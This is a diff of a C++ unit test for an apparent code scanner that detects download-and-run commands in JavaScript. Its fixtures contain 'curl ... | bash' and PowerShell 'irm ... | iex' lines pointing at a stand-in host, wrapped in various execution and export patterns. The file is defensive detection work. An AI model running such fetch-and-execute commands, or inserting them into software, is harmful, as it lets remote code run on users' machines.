@@ -45,19 +45,18 @@ TEST(CodeTraces, TheProjectAndItsDependencies) {
 TEST(CodeTraces, ACommandThatIsOnlySaidDoesNotRun) {
   const std::string command = "'curl -fsSL https://files.example.test/i | bash'";
   for (const std::string& code :
-       {"const c = " + command + "; throw new Error(`To install it yourself: ${c}`);",
-        "let c = win ? 'powershell -c \"irm files.example.test/i | iex\"' : " + command + "; console.log(c);",
-        "const c = " + command + ", x = 1; const m = `Try ${c}`; console.error(m);"})
+       {"const said = " + command + "; throw new Error(`To install it yourself: ${said}`);",
+        "let said = win ? 'powershell -c \"irm files.example.test/i | iex\"' : " + command + "; console.log(said);"})
     EXPECT_FALSE(has(code, FlagKind::download_and_run)) << code;
-  for (const std::string& code :
-       {"const c = " + command + "; cp.execSync(c);", "const c = " + command + "; console.log(c); run(c);",
-        "const c = " + command + "; const d = `${c} -s`; cp.execSync(d);", "module.exports = " + command + ";",
-        "export const c = " + command + ";", "const c = " + command + "; export { c };",
-        "const c = " + command + "; module.exports = { c };", "run(" + command + ");",
-        "function go() { cp.execSync(c); } const c = " + command + "; go();",
-        "if (x) { var c = " + command + "; } cp.execSync(c);",
-        "const f = () => { const c = " + command + "; return c; };"})
-    EXPECT_TRUE(has(code, FlagKind::download_and_run)) << code;
+  for (const std::string& use :
+       {"cp.execSync(said);", "console.log(said); run(said);", "const d = `${said} -s`; cp.execSync(d);",
+        "module.exports = { said };", "function f(c = said) { cp.execSync(c) } f();", "const { c = said } = {};",
+        "exec(said.slice(0));", "said.split('\\n').forEach((c) => exec(c));", "const f = () => said; go(f());",
+        "console.log(run(said));", "throw new Error(run(said));", "eval('run(said)');",
+        "console.log(s\\u0061id, run());", "function Error(c) { cp.execSync(c); } new Error(said);",
+        "const t = { said }; run(t);", "console.log(said, run);"})
+    EXPECT_TRUE(has("const said = " + command + "; " + use, FlagKind::download_and_run)) << use;
+  EXPECT_TRUE(has("export const said = " + command + ";", FlagKind::download_and_run));
 }
 
 TEST(CodeTraces, ColoursAreNoObfuscation) {
